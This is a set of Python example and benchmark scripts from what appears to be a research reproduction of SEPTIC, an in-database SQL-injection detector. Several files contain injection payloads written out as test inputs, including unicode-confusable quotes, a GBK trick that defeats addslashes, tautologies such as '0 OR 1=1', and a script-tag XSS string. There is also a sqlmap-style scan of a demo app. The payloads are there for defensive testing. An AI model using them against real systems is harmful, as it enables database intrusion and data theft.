    print("%-10s avg=%.3f ms  p95=%.3f ms  %.0f req/s" % (
        "baseline", baseline.avg_latency * 1e3,
        baseline.p95_latency * 1e3, baseline.throughput))
    for flags in ("NN", "YN", "NY", "YY"):
        result = run_benchlab(Refbase, flags, machines=1,
                              browsers_per_machine=2, loops=3)
        print("%-10s avg=%.3f ms  p95=%.3f ms  %.0f req/s  "
              "overhead=%+.2f%%  septic=%.1f µs/req" % (
                  flags, result.avg_latency * 1e3,
                  result.p95_latency * 1e3, result.throughput,
                  100 * result.overhead_vs(baseline),
                  1e6 * result.measured_seconds / result.requests))

    print("\nbrowser ramp (YY), abbreviated:")
    for browsers, machines, result in run_scaling_experiment(
            Refbase, loops=2)[:5]:
        print("  %2d browsers on %d machine(s): avg=%.2f ms, %.0f req/s"
              % (browsers, machines, result.avg_latency * 1e3,
                 result.throughput))


if __name__ == "__main__":
    main()
