"""The semantic mismatch, query by query (paper §II-C/§II-D).

Reproduces Figures 2, 3 and 4 — the QS/QM stacks of the ticket query and
the two attack detections — then walks each mismatch channel at the SQL
level, showing what the sanitizer saw versus what the DBMS executed.

Run:  python examples/semantic_mismatch.py
"""

from repro import Connection, Database, Mode, Septic
from repro.core import QueryModel, QueryStructure
from repro.sqldb.charset import decode_query
from repro.sqldb.parser import parse_one
from repro.sqldb.validator import validate
from repro.web.sanitize import addslashes, mysql_real_escape_string


def show(title, text):
    print("\n--- %s " % title + "-" * max(0, 60 - len(title)))
    print(text)


def main():
    db = Database()
    db.seed(
        """
        CREATE TABLE tickets (id INT PRIMARY KEY AUTO_INCREMENT,
                              reservID VARCHAR(20), creditCard INT);
        INSERT INTO tickets (reservID, creditCard) VALUES ('ID34FG', 1234);
        """
    )

    # ----- Figure 2: QS and QM of the ticket query ----------------------
    sql = ("SELECT * FROM tickets WHERE reservID = 'ID34FG' "
           "AND creditCard = 1234")
    stack = validate(parse_one(sql), db.tables)
    qs = QueryStructure.from_stack(stack)
    qm = QueryModel.from_structure(qs)
    show("Figure 2a — query structure (QS)", qs.render())
    show("Figure 2b — query model (QM, DATA → ⊥)", qm.render())

    # ----- Figure 3: the second-order unicode attack ----------------------
    raw = ("SELECT * FROM tickets WHERE reservID = 'ID34FGʼ-- ' "
           "AND creditCard = 0")
    decoded = decode_query(raw)
    show("what the application sent (U+02BC inside the literal)", raw)
    show("what MySQL executes after decoding", decoded)
    attack_stack = validate(parse_one(decoded), db.tables)
    attack_qs = QueryStructure.from_stack(attack_stack)
    show("Figure 3 — QS of the attacked query", attack_qs.render())
    print("\nnode counts: QS=%d vs QM=%d -> STRUCTURAL detection (step 1)"
          % (len(attack_qs), len(qm)))

    # ----- Figure 4: syntax mimicry ------------------------------------------
    mimic = decode_query(
        "SELECT * FROM tickets WHERE reservID = 'ID34FGʼ AND 1=1-- ' "
        "AND creditCard = 0"
    )
    mimic_qs = QueryStructure.from_stack(validate(parse_one(mimic),
                                                  db.tables))
    show("Figure 4 — QS of the mimicry attack", mimic_qs.render())
    print("\nnode counts match (%d == %d); node-by-node comparison finds"
          % (len(mimic_qs), len(qm)))
    for index, (qs_node, qm_node) in enumerate(zip(mimic_qs, qm)):
        if qs_node.kind != qm_node.kind:
            print("  node %d: %r vs model %r  -> SYNTACTICAL detection "
                  "(step 2)" % (index, qs_node, qm_node))

    # ----- channel tour ------------------------------------------------------------
    show("channel 1 — escaping vs unicode confusables", "")
    payload = "ID34FGʼ OR ʼ1ʼ=ʼ1"
    escaped = mysql_real_escape_string(payload)
    print("payload:                %r" % payload)
    print("after escaping:         %r  (unchanged!)" % escaped)
    print("after DBMS decoding:    %r" % decode_query(escaped))

    show("channel 2 — numeric context", "")
    payload = "0 OR 1=1"
    print("payload:                %r" % payload)
    print("after escaping:         %r  (no quotes to escape)"
          % mysql_real_escape_string(payload))
    print("in context:             SELECT ... WHERE pin = 0 OR 1=1")

    show("channel 3 — GBK eats addslashes' backslash", "")
    payload = "¿' OR 1=1-- "
    slashed = addslashes(payload)
    print("payload:                %r" % payload)
    print("after addslashes:       %r" % slashed)
    print("after GBK decoding:     %r" % decode_query(slashed, "gbk"))

    # ----- and SEPTIC closes all of them ------------------------------------------
    show("SEPTIC verdicts", "")
    septic = Septic(mode=Mode.TRAINING)
    db2 = Database(septic=septic)
    db2.seed(
        """
        CREATE TABLE tickets (id INT PRIMARY KEY AUTO_INCREMENT,
                              reservID VARCHAR(20), creditCard INT);
        INSERT INTO tickets (reservID, creditCard) VALUES ('ID34FG', 1234);
        """
    )
    conn = Connection(db2)
    template = ("/* septic:tickets.php:7 */ SELECT * FROM tickets "
                "WHERE reservID = '%s' AND creditCard = %s")
    conn.query(template % ("ID34FG", "1234"))
    septic.mode = Mode.PREVENTION
    for label, res_id, card in [
        ("benign", "ID34FG", "1234"),
        ("structural (Fig 3)", "ID34FGʼ-- ", "0"),
        ("mimicry (Fig 4)", "ID34FGʼ AND 1=1-- ", "0"),
    ]:
        outcome = conn.query(template % (res_id, card))
        print("%-22s %s" % (label, outcome))


if __name__ == "__main__":
    main()
