"""Quickstart: SEPTIC inside the DBMS in ~40 lines.

Run:  python examples/quickstart.py
"""

from repro import Connection, Database, Mode, Septic

# 1. Create a database with SEPTIC plugged into its execution pipeline.
septic = Septic(mode=Mode.TRAINING)
db = Database(septic=septic)
db.seed(
    """
    CREATE TABLE tickets (
        id INT PRIMARY KEY AUTO_INCREMENT,
        reservID VARCHAR(20),
        creditCard INT
    );
    INSERT INTO tickets (reservID, creditCard) VALUES ('ID34FG', 1234);
    """
)

# 2. Train: run the application's queries once in training mode.  The
#    /* septic:... */ comment is the external identifier a PHP/Zend shim
#    would attach automatically (it names the call site).
conn = Connection(db)
QUERY = ("/* septic:app.php:42 */ SELECT * FROM tickets "
         "WHERE reservID = '%s' AND creditCard = %s")
conn.query(QUERY % ("ID34FG", "1234"))
print("models learned:", len(septic.store))

# 3. Protect: switch to prevention mode.
septic.mode = Mode.PREVENTION

# 4. Benign queries keep working...
ok = conn.query(QUERY % ("ID34FG", "1234"))
print("benign query rows:", ok.rows)

# 5. ...while attacks are detected and dropped.  This is the paper's
#    syntax-mimicry example (Figure 4): same node count, different nodes.
attack = conn.query(QUERY % ("ID34FG' AND 1=1-- ", "0"))
print("mimicry attack:", attack.error)

# And the second-order/unicode structural attack (Figure 3).
attack2 = conn.query(QUERY % ("ID34FGʼ-- ", "0"))
print("structural attack:", attack2.error)

# 6. Everything is in the event register.
print("\nSEPTIC event register:")
for event in septic.logger.events:
    print(" ", event.format())
