"""Operating SEPTIC: modes, persistence, incremental learning (Table I).

Walks the operational lifecycle the demo performs between phases:
training → persist models → "restart MySQL" → load models → prevention,
plus the detection-only mode and the incremental-learning path.

Run:  python examples/training_and_ops.py
"""

import os
import tempfile

from repro import Database, Mode, Septic
from repro.core import QMStore, SepticTrainer
from repro.core.logger import EventKind, SepticLogger
from repro.apps import WaspMon
from repro.web.http import Request

ATTACK = Request.get("/device", {"serial": "WM-100-A", "pin": "0 OR 1=1"})
BENIGN = Request.get("/device", {"serial": "WM-100-A", "pin": "1234"})


def main():
    store_path = os.path.join(tempfile.mkdtemp(prefix="septic-"),
                              "qm_store.json")

    # ----- train and persist -------------------------------------------
    septic = Septic(mode=Mode.TRAINING, store=QMStore(path=store_path),
                    logger=SepticLogger(verbose=False))
    db = Database(septic=septic)
    app = WaspMon(db)
    report = SepticTrainer(app, septic).train(passes=2)
    print("training:", report)
    septic.store.save()
    print("persisted %d models to %s" % (len(septic.store), store_path))

    # ----- "restart MySQL": fresh process, models loaded from disk --------
    septic2 = Septic(mode=Mode.PREVENTION, store=QMStore(path=store_path))
    loaded = septic2.store.load()
    print("\nafter restart: loaded %d models" % loaded)
    db2 = Database(septic=None)      # build schema without training noise
    app2 = WaspMon(db2)
    db2.septic = septic2             # now arm SEPTIC

    print("benign lookup: ", app2.handle(BENIGN).status)
    print("attack lookup: ", app2.handle(ATTACK).status, "->",
          app2.handle(ATTACK).body[:70])
    print("dropped queries so far:", septic2.stats.queries_dropped)

    # ----- detection (log-only) mode -----------------------------------------
    septic2.mode = Mode.DETECTION
    response = app2.handle(ATTACK)
    print("\ndetection mode: attack response is %d (query EXECUTED), "
          "but logged:" % response.status)
    print(" ", septic2.logger.attacks[-1].format()[:110])

    # ----- incremental learning -------------------------------------------------
    septic2.mode = Mode.PREVENTION
    before = len(septic2.store)
    # a genuinely new query (new call site) appears in production:
    db2.run("/* septic:waspmon:adhoc:1 */ SELECT COUNT(*) FROM feedback")
    print("\nincremental learning: store grew %d -> %d"
          % (before, len(septic2.store)))
    new_events = septic2.logger.by_kind(EventKind.QM_CREATED)
    print("  flagged for administrator review:",
          new_events[-1].format()[:100])

    # the administrator would now vet it; a replay matches the new model:
    outcome = db2.run("/* septic:waspmon:adhoc:1 */ "
                      "SELECT COUNT(*) FROM feedback")
    print("  replay executes fine:", outcome[0].result_set.rows)


if __name__ == "__main__":
    main()
