"""Scan WaspMon with sqlmap-lite under each protection configuration.

The demo's attacker machine runs sqlmap against the application; this
example reproduces that view: the same scan, four deployments, very
different results.

Run:  python examples/sqlmap_scan.py
"""

from collections import Counter

from repro.attacks import build_scenario
from repro.attacks.sqlmap import SqlmapLite


def main():
    for protection in ("none", "modsec", "septic", "septic+modsec"):
        scenario = build_scenario(protection)
        scanner = SqlmapLite(scenario.server, scenario.app)
        findings = scanner.test_application()
        by_technique = Counter(f.technique for f in findings)
        print("\n=== %s ===" % protection)
        print("requests sent: %d, injectable parameter/technique pairs: %d"
              % (scanner.requests_sent, len(findings)))
        for technique, count in sorted(by_technique.items()):
            print("  %-22s %d" % (technique, count))
        if protection == "none":
            print("sample findings:")
            for finding in findings[:6]:
                print("  ", finding)
        if scenario.septic is not None:
            print("SEPTIC dropped %d probe queries"
                  % scenario.septic.stats.queries_dropped)
    print(
        "\nNote: 'error-based' findings that survive under SEPTIC are "
        "parse errors\n(the DBMS rejects the probe before execution); "
        "they show error-message\nleakage by the app, not exploitable "
        "injection — boolean/UNION/time-based\nchannels are gone."
    )


if __name__ == "__main__":
    main()
