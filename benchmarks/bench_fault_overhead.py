"""Fault-injection points — what do they cost when nothing is armed?

The chaos subsystem's contract is "zero overhead when disarmed": every
injection site is guarded by ``if faults.ACTIVE is not None``, one
module-attribute read and an identity test.  This bench proves the
contract on the warm cached query path (the hot path PR 1 built):

* measure the warm per-query latency with no plan armed;
* micro-measure the disarmed guard primitive itself;
* count how many injection points one warm query actually reaches (an
  armed *watch* plan with no specs counts ``fire()`` calls without
  injecting anything);
* bound the disarmed guard cost per query — conservatively doubled to
  cover the watchdog/checkpoint ``is not None`` plumbing — and assert
  it is **< 2%** of the measured warm per-query time.

The armed-watch replay is also timed and reported: that is the
*observability* price (fire() bookkeeping + store fingerprint checks),
paid only while a chaos experiment is running.
"""

import time

from repro import faults
from repro.core.logger import SepticLogger
from repro.core.septic import Mode, Septic
from repro.sqldb import wal
from repro.sqldb.connection import Connection
from repro.sqldb.engine import Database

from bench_pipeline_cache import QUERY_MIX, SCHEMA

LOOPS = 300
REPEATS = 3
GUARD_ITERATIONS = 2_000_000


def _build():
    septic = Septic(mode=Mode.TRAINING, logger=SepticLogger(verbose=False))
    database = Database(septic=septic, cache_size=512)
    database.seed(SCHEMA)
    conn = Connection(database)
    for sql in QUERY_MIX:
        conn.query_or_raise(sql)
    septic.mode = Mode.PREVENTION
    return septic, database, conn


def _time_loop(conn, loops):
    start = time.perf_counter()
    for _ in range(loops):
        for sql in QUERY_MIX:
            conn.query(sql)
    return time.perf_counter() - start


def _median_loop(conn, loops, repeats):
    times = sorted(_time_loop(conn, loops) for _ in range(repeats))
    return times[len(times) // 2]


def _guard_cost(iterations):
    """Seconds per disarmed guard (attribute read + identity test),
    with the bare loop overhead subtracted out."""
    loop = range(iterations)
    start = time.perf_counter()
    for _ in loop:
        if faults.ACTIVE is not None:
            raise AssertionError("plan armed during micro-bench")
    guarded = time.perf_counter() - start
    start = time.perf_counter()
    for _ in loop:
        pass
    empty = time.perf_counter() - start
    return max((guarded - empty) / iterations, 0.0)


def test_fault_overhead_artifact(report, benchmark):
    def run_measurements():
        _, _, conn = _build()
        _time_loop(conn, 1)  # priming pass: the cache fills here
        disarmed = _median_loop(conn, LOOPS, REPEATS)

        # armed watch plan: counts every fire() without injecting
        watch = faults.FaultPlan()
        with faults.armed(watch):
            armed = _median_loop(conn, LOOPS, REPEATS)
        guard = _guard_cost(GUARD_ITERATIONS)
        return disarmed, armed, guard, dict(watch.hits_by_site)

    disarmed, armed, guard, hits = benchmark.pedantic(
        run_measurements, rounds=1, iterations=1
    )
    queries = LOOPS * len(QUERY_MIX)
    disarmed_us = 1e6 * disarmed / queries
    armed_us = 1e6 * armed / queries
    fires_per_query = sum(hits.values()) / float(REPEATS * queries)
    # every fire() site is one guard; double it to cover the watchdog
    # construction guard and the `checkpoint is not None` plumbing, and
    # add a flat few for sites short-circuited before fire()
    guards_per_query = 2.0 * fires_per_query + 4.0
    guard_cost_us = 1e6 * guard
    bound_us = guards_per_query * guard_cost_us
    bound_pct = 100.0 * bound_us / disarmed_us if disarmed_us else 0.0
    armed_pct = 100.0 * (armed_us - disarmed_us) / disarmed_us \
        if disarmed_us else 0.0

    report.line("Fault-injection points — disarmed cost on the warm path")
    report.line("(%d warm queries per side, median of %d runs)"
                % (queries, REPEATS))
    report.line()
    report.table(
        ["path", "per query (us)", "vs disarmed"],
        [
            ["disarmed (production)", "%.2f" % disarmed_us, "--"],
            ["armed watch plan", "%.2f" % armed_us,
             "%+.1f%%" % armed_pct],
        ],
        widths=[24, 16, 14],
    )
    report.line()
    report.line("guard primitive:    %.1f ns per check (%d iterations)"
                % (1e3 * guard_cost_us, GUARD_ITERATIONS))
    report.line("injection points:   %.1f fire() sites reached per warm "
                "query" % fires_per_query)
    report.line("sites seen: %s" % ", ".join(sorted(hits)))
    report.line("guard budget:       %.1f guards x %.1f ns = %.4f us "
                "per query" % (guards_per_query, 1e3 * guard_cost_us,
                               bound_us))
    report.line("disarmed overhead:  %.3f%% of the %.2f us warm query "
                "(must be < 2%%)" % (bound_pct, disarmed_us))
    report.metric("disarmed_guard_overhead", round(bound_pct, 4), "%")
    report.metric("warm_query_disarmed", round(disarmed_us, 3), "us")

    # the watch plan must have seen the wired sites (coverage proof)
    assert hits.get("cache.lookup", 0) > 0
    assert hits.get("store.get", 0) > 0
    assert hits.get("detector.run", 0) > 0
    # acceptance: disarmed injection points cost < 2% of the warm path
    assert bound_pct < 2.0, (
        "disarmed guards cost %.3f%% of the warm path" % bound_pct
    )


def _wal_guard_cost(iterations):
    """Seconds per disabled WAL guard (`if wal.ATTACHED:` — the same
    module-attribute discipline as the fault sites), loop overhead
    subtracted out."""
    loop = range(iterations)
    start = time.perf_counter()
    for _ in loop:
        if wal.ATTACHED:
            raise AssertionError("a WAL is attached during micro-bench")
    guarded = time.perf_counter() - start
    start = time.perf_counter()
    for _ in loop:
        pass
    empty = time.perf_counter() - start
    return max((guarded - empty) / iterations, 0.0)


def test_wal_disabled_overhead_artifact(report, benchmark):
    """WAL-off mode must be the exact status quo: with no database
    attached, the engine's durability hooks are `if wal.ATTACHED:`
    guards and nothing else.  Same bounding argument as the fault
    sites: measure the guard primitive, count the guard sites a warm
    query crosses, and hold the product under 2% of the warm path."""

    def run_measurements():
        _, _, conn = _build()
        _time_loop(conn, 1)  # priming pass
        assert wal.ATTACHED == 0, "benchmark needs WAL-off mode"
        warm = _median_loop(conn, LOOPS, REPEATS)
        guard = _wal_guard_cost(GUARD_ITERATIONS)
        return warm, guard

    warm, guard = benchmark.pedantic(run_measurements, rounds=1,
                                     iterations=1)
    queries = LOOPS * len(QUERY_MIX)
    warm_us = 1e6 * warm / queries
    guard_ns = 1e9 * guard
    # guard sites a statement can cross: _run_statement's log gate,
    # Session.begin/commit markers, and attach-time checks — bound
    # generously at 4 per query
    guards_per_query = 4.0
    bound_us = guards_per_query * guard * 1e6
    bound_pct = 100.0 * bound_us / warm_us if warm_us else 0.0

    report.line("WAL-disabled gate — durability hooks with no WAL "
                "attached")
    report.line("(%d warm queries, median of %d runs)"
                % (queries, REPEATS))
    report.line()
    report.line("warm cached query:  %.2f us" % warm_us)
    report.line("guard primitive:    %.1f ns per `if wal.ATTACHED:` "
                "check (%d iterations)" % (guard_ns, GUARD_ITERATIONS))
    report.line("guard budget:       %.1f guards x %.1f ns = %.4f us "
                "per query" % (guards_per_query, guard_ns, bound_us))
    report.line("disabled overhead:  %.3f%% of the warm query "
                "(must be < 2%%)" % bound_pct)
    report.metric("wal_disabled_overhead", round(bound_pct, 4), "%")

    # acceptance: the disabled durability layer costs < 2% of the warm
    # cached query path — WAL-off mode is the status quo
    assert bound_pct < 2.0, (
        "disabled WAL guards cost %.3f%% of the warm path" % bound_pct
    )
