"""E13 — the crash-point sweep as a regenerable artifact.

Runs the exhaustive kill-at-every-byte sweep (see
``repro.benchlab.crashsweep``) over the three seeded workloads the test
suite pins, and writes the per-seed summaries to
``benchmarks/out/crash_sweep_artifact.txt``.  The numbers to look at:
*kill offsets* (= log bytes + 1 — every byte boundary was a crash) and
*mismatches* (must be 0: at every offset, recovery produced exactly the
committed prefix).
"""

import shutil
import tempfile
import time

from repro.benchlab.crashsweep import format_sweep_result, run_crash_sweep

SWEEPS = [
    (1, None),
    (2, 8),      # mid-workload checkpoint: covers snapshot+tail recovery
    (3, None),
]

# batch fsync mode widens the kill window: commits sit appended but
# unsynced until the group syncs, so the sweep additionally covers
# crashes inside that deferred-fsync backlog
BATCH_SWEEPS = [
    (1, None),
    (3, None),
]


def test_crash_sweep_artifact(report, benchmark):
    def run_sweeps():
        results = []
        workdir = tempfile.mkdtemp(prefix="crash-sweep-")
        try:
            for seed, checkpoint_after in SWEEPS:
                start = time.perf_counter()
                result = run_crash_sweep(workdir, seed,
                                         checkpoint_after=checkpoint_after)
                results.append((result, time.perf_counter() - start))
        finally:
            shutil.rmtree(workdir, ignore_errors=True)
        return results

    results = benchmark.pedantic(run_sweeps, rounds=1, iterations=1)

    report.line("E13 — crash-point sweep: kill at every WAL byte offset, "
                "recover, compare")
    report.line()
    for result, elapsed in results:
        report.line("%s  (%.1fs)" % (format_sweep_result(result), elapsed))
    report.line()
    total_offsets = sum(r.offsets_tested for r, _t in results)
    lost_or_phantom = sum(len(r.mismatches) for r, _t in results)
    report.line("total: %d recoveries across %d workloads, "
                "%d lost-or-phantom states" % (
                    total_offsets, len(results), lost_or_phantom))
    report.metric("crash_recoveries", total_offsets, "recoveries")
    report.metric("lost_or_phantom_states", lost_or_phantom, "states")
    report.metric("index_mismatches_post_recovery",
                  sum(len(r.index_mismatches) for r, _t in results),
                  "mismatches")

    for result, _elapsed in results:
        assert result.ok, format_sweep_result(result)
        assert result.offsets_tested == result.log_bytes + 1
        assert result.blocked >= 1


def test_crash_sweep_batch_sync(report):
    """The same sweep with ``sync_mode="batch"``: deferred group fsync
    must trade durability latency, never correctness — recovery still
    yields exactly the acknowledged-and-synced prefix at every byte."""
    results = []
    workdir = tempfile.mkdtemp(prefix="crash-sweep-batch-")
    try:
        for seed, checkpoint_after in BATCH_SWEEPS:
            start = time.perf_counter()
            result = run_crash_sweep(workdir, seed,
                                     checkpoint_after=checkpoint_after,
                                     sync_mode="batch")
            results.append((result, time.perf_counter() - start))
    finally:
        shutil.rmtree(workdir, ignore_errors=True)

    report.line("E13b — crash-point sweep under batch (group) fsync")
    report.line()
    for result, elapsed in results:
        report.line("%s  (%.1fs)" % (format_sweep_result(result), elapsed))
    report.line()
    lost_or_phantom = sum(len(r.mismatches) for r, _t in results)
    backlog = max(r.max_unsynced_backlog for r, _t in results)
    report.line("lost-or-phantom states: %d; deepest unsynced commit "
                "backlog crossed by a kill point: %d" % (
                    lost_or_phantom, backlog))
    report.metric("batch_lost_or_phantom_states", lost_or_phantom,
                  "states")
    report.metric("batch_max_unsynced_backlog", backlog, "commits")

    for result, _elapsed in results:
        assert result.ok, format_sweep_result(result)
        assert result.sync_mode == "batch"
        assert result.offsets_tested == result.log_bytes + 1
        # the batch kill window was actually exercised: at least one
        # point in the workload had multiple commits awaiting fsync
    assert backlog >= 1
