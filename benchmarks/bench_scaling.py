"""E6 — §II-F scaling series: the browser ramp on refbase.

The paper ramps 1→4 client machines with one browser each, then 4
machines with 2/3/4/5 browsers (8, 12, 16, 20 total), every browser
looping the refbase workload.  We regenerate the series (YY
configuration) and assert the load/latency shape: average latency is
non-decreasing once the server saturates, throughput grows with offered
load until the worker pool is the bottleneck.
"""

from repro.apps import Refbase
from repro.benchlab.harness import run_scaling_experiment


def test_scaling_artifact(report, benchmark):
    rows = benchmark.pedantic(
        run_scaling_experiment, args=(Refbase,),
        kwargs={"loops": 4, "workers": 8},
        rounds=1, iterations=1,
    )
    report.line("§II-F scaling series — refbase workload, SEPTIC YY")
    report.line()
    report.table(
        ["browsers", "machines", "avg latency", "p95", "req/s"],
        [
            ["%d" % browsers, "%d" % machines,
             "%.2f ms" % (res.avg_latency * 1e3),
             "%.2f ms" % (res.p95_latency * 1e3),
             "%.0f" % res.throughput]
            for browsers, machines, res in rows
        ],
    )
    latencies = [res.avg_latency for _, _, res in rows]
    throughputs = [res.throughput for _, _, res in rows]
    report.metric("avg_latency_1_browser", round(latencies[0] * 1e3, 3),
                  "ms")
    report.metric("avg_latency_20_browsers",
                  round(latencies[-1] * 1e3, 3), "ms")
    report.metric("throughput_20_browsers", round(throughputs[-1], 1),
                  "req/s")
    # light-load region: 1..4 browsers fit in the 8-worker pool, latency
    # stays flat (within 50%) while throughput scales near-linearly
    assert max(latencies[:4]) < min(latencies[:4]) * 1.5
    assert throughputs[3] > throughputs[0] * 2.5
    # saturation region: 20 browsers > 8 workers -> queueing shows up
    assert latencies[-1] > latencies[0]
    # throughput never collapses
    assert throughputs[-1] > throughputs[3] * 0.8
