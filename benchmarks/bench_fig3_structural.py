"""E3 — Figure 3: the second-order unicode attack and its structural
detection (step 1 of the SQLI algorithm).

Regenerates the attacked query's QS and benchmarks the detection of the
structural mismatch.
"""

from repro.core.detector import AttackDetector
from repro.core.query_model import QueryModel
from repro.core.query_structure import QueryStructure
from repro.sqldb.charset import decode_query
from repro.sqldb.engine import Database
from repro.sqldb.parser import parse_one
from repro.sqldb.validator import validate

TICKET_SQL = ("SELECT * FROM tickets WHERE reservID = 'ID34FG' "
              "AND creditCard = 1234")
ATTACK_SQL = ("SELECT * FROM tickets WHERE reservID = 'ID34FGʼ-- ' "
              "AND creditCard = 0")


def _setup():
    database = Database()
    database.seed(
        "CREATE TABLE tickets (id INT PRIMARY KEY AUTO_INCREMENT, "
        "reservID VARCHAR(20), creditCard INT);"
    )
    model = QueryModel.from_structure(QueryStructure.from_stack(
        validate(parse_one(TICKET_SQL), database.tables)
    ))
    attack_qs = QueryStructure.from_stack(
        validate(parse_one(decode_query(ATTACK_SQL)), database.tables)
    )
    return model, attack_qs


def test_figure3_artifact(report, benchmark):
    model, attack_qs = _setup()
    detector = AttackDetector()
    detection = benchmark(detector.detect_sqli, attack_qs, model)
    report.line("attack input (reservID): ID34FGʼ--  (prime = U+02BC)")
    report.line("query after DBMS decoding:")
    report.line("  " + decode_query(ATTACK_SQL))
    report.line()
    report.line("Figure 3 — QS of the attacked query:")
    report.line(attack_qs.render())
    report.line()
    report.line("detection: %s at step %d (%s)" % (
        detection.attack_type, detection.step, detection.detail))
    report.metric("detection_step", detection.step, "step")
    assert detection.is_attack and detection.step == 1
    assert len(attack_qs) == 5 and len(model) == 9


def test_bench_structural_comparison_only(benchmark):
    """Step 1 in isolation: the node-count check."""
    model, attack_qs = _setup()

    def step1():
        return len(attack_qs) != len(model)

    assert benchmark(step1)


def test_bench_decode_parse_detect_end_to_end(benchmark):
    """The whole in-DBMS path the attack traverses."""
    database = Database()
    database.seed(
        "CREATE TABLE tickets (id INT PRIMARY KEY AUTO_INCREMENT, "
        "reservID VARCHAR(20), creditCard INT);"
    )
    model = QueryModel.from_structure(QueryStructure.from_stack(
        validate(parse_one(TICKET_SQL), database.tables)
    ))
    detector = AttackDetector()

    def pipeline():
        qs = QueryStructure.from_stack(
            validate(parse_one(decode_query(ATTACK_SQL)), database.tables)
        )
        return detector.detect_sqli(qs, model)

    assert benchmark(pipeline).is_attack
