"""E8 — micro-cost ablation of SEPTIC's pipeline stages.

Supports Figure 5's "very limited impact" claim by timing each module in
isolation: QS build, QM abstraction, ID generation, store lookup, the
two SQLI steps, and the stored-injection plugin scan (benign and
malicious inputs).  Also ablates the two-step detection design: how much
work the cheap structural check saves on structurally-mutated attacks.
"""

from repro.core.detector import AttackDetector
from repro.core.id_generator import IdGenerator
from repro.core.plugins import default_plugins
from repro.core.query_model import QueryModel
from repro.core.query_structure import QueryStructure
from repro.core.store import QMStore
from repro.sqldb.engine import Database
from repro.sqldb.parser import parse_one
from repro.sqldb.validator import validate

SQL = ("SELECT r.watts, r.taken_at, r.comment FROM readings r "
       "JOIN devices d ON r.device_id = d.id "
       "WHERE d.serial = 'WM-100-A' AND d.pin = 1234 "
       "ORDER BY r.taken_at LIMIT 50")


def _stack():
    return validate(parse_one(SQL))


def test_microcosts_artifact(report):
    """Headline stage costs (min-of-5, 200 calls per sample)."""
    import time

    def cost(fn, *args):
        best = None
        for _ in range(5):
            start = time.perf_counter()
            for _ in range(200):
                fn(*args)
            sample = (time.perf_counter() - start) / 200
            best = sample if best is None else min(best, sample)
        return best

    stack = _stack()
    qs = QueryStructure.from_stack(stack)
    qs_us = 1e6 * cost(QueryStructure.from_stack, stack)
    qm_us = 1e6 * cost(QueryModel.from_structure, qs)
    report.line("E8 micro-costs — QS build %.2f us, QM build %.2f us"
                % (qs_us, qm_us))
    report.metric("qs_build", round(qs_us, 3), "us")
    report.metric("qm_build", round(qm_us, 3), "us")


def test_bench_qs_build(benchmark):
    stack = _stack()
    assert len(benchmark(QueryStructure.from_stack, stack)) == len(stack)


def test_bench_qm_abstraction(benchmark):
    qs = QueryStructure.from_stack(_stack())
    assert len(benchmark(QueryModel.from_structure, qs)) == len(qs)


def test_bench_id_generation(benchmark):
    qm = QueryModel.from_structure(QueryStructure.from_stack(_stack()))
    gen = IdGenerator()
    qid = benchmark(gen.generate, ["septic:waspmon:history:86"], qm)
    assert qid.external


def test_bench_store_lookup_hot(benchmark):
    """Lookup in a store holding 1000 models (a large application)."""
    gen = IdGenerator()
    store = QMStore()
    target = None
    for i in range(1000):
        sql = "SELECT a FROM t WHERE b = %d AND c%d = 1" % (i, i)
        qm = QueryModel.from_structure(
            QueryStructure.from_stack(validate(parse_one(sql)))
        )
        qid = gen.generate(["septic:site:%d" % i], qm)
        store.put(qid, qm)
        if i == 500:
            target = qid
    assert benchmark(store.get, target) is not None


def test_bench_sqli_step1_mismatch(benchmark):
    """Structural attacks exit at the O(1) count check."""
    detector = AttackDetector()
    model = QueryModel.from_structure(QueryStructure.from_stack(_stack()))
    attack = QueryStructure.from_stack(validate(parse_one(
        "SELECT r.watts, r.taken_at, r.comment FROM readings r "
        "JOIN devices d ON r.device_id = d.id WHERE d.serial = 'x'"
    )))
    detection = benchmark(detector.detect_sqli, attack, model)
    assert detection.step == 1


def test_bench_sqli_step2_full_walk(benchmark):
    """Benign queries pay the full node walk — the steady-state cost."""
    detector = AttackDetector()
    model = QueryModel.from_structure(QueryStructure.from_stack(_stack()))
    benign = QueryStructure.from_stack(validate(parse_one(
        SQL.replace("WM-100-A", "WM-200-B").replace("1234", "5678")
    )))
    assert not benchmark(detector.detect_sqli, benign, model).is_attack


def test_bench_plugins_benign_input(benchmark):
    """Step-1 plugin filters on clean text (the overwhelmingly common
    case) — this is what INSERT/UPDATE traffic pays."""
    plugins = default_plugins()
    text = "perfectly normal reading comment with no markup at all"

    def scan():
        return any(p.inspect(text) for p in plugins)

    assert not benchmark(scan)


def test_bench_plugins_malicious_input(benchmark):
    """Step 2 runs (HTML parse) only when step 1 flags the input."""
    plugins = default_plugins()
    text = "<script>alert('Hello!');</script>"

    def scan():
        return any(p.inspect(text) for p in plugins)

    assert benchmark(scan)


def test_bench_full_hook_per_query(benchmark):
    """The end-to-end per-query SEPTIC cost inside the engine (what the
    Figure 5 overhead is made of)."""
    from repro.core.logger import SepticLogger
    from repro.core.septic import Mode, Septic
    from repro.sqldb.connection import Connection

    septic = Septic(mode=Mode.TRAINING, logger=SepticLogger(verbose=False))
    database = Database(septic=septic)
    database.seed(
        "CREATE TABLE t (a INT, b VARCHAR(20));"
        "INSERT INTO t VALUES (1, 'x');"
    )
    conn = Connection(database)
    conn.query("/* septic:s:1 */ SELECT * FROM t WHERE a = 1")
    septic.mode = Mode.PREVENTION
    before = database.septic_seconds_total

    def query():
        return conn.query("/* septic:s:1 */ SELECT * FROM t WHERE a = 2")

    assert benchmark(query).ok
    assert database.septic_seconds_total > before
