"""Shared helpers for the benchmark suite.

Each ``bench_*`` file regenerates one table/figure of the paper.  Besides
timing (pytest-benchmark), every bench PRINTS the paper-shaped rows and
writes them to ``benchmarks/out/<name>.txt`` so the artefacts survive
output capturing.
"""

import os

import pytest

OUT_DIR = os.path.join(os.path.dirname(__file__), "out")


class Report(object):
    """Collects the lines of one regenerated artefact."""

    def __init__(self, name):
        self.name = name
        self.lines = []

    def line(self, text=""):
        self.lines.append(text)

    def table(self, headers, rows, widths=None):
        widths = widths or [max(12, len(h) + 2) for h in headers]
        fmt = "".join("%%-%ds" % w for w in widths)
        self.line(fmt % tuple(headers))
        for row in rows:
            self.line(fmt % tuple(str(c) for c in row))

    def emit(self):
        text = "\n".join(self.lines)
        os.makedirs(OUT_DIR, exist_ok=True)
        path = os.path.join(OUT_DIR, self.name + ".txt")
        with open(path, "w") as handle:
            handle.write(text + "\n")
        print("\n" + "=" * 70)
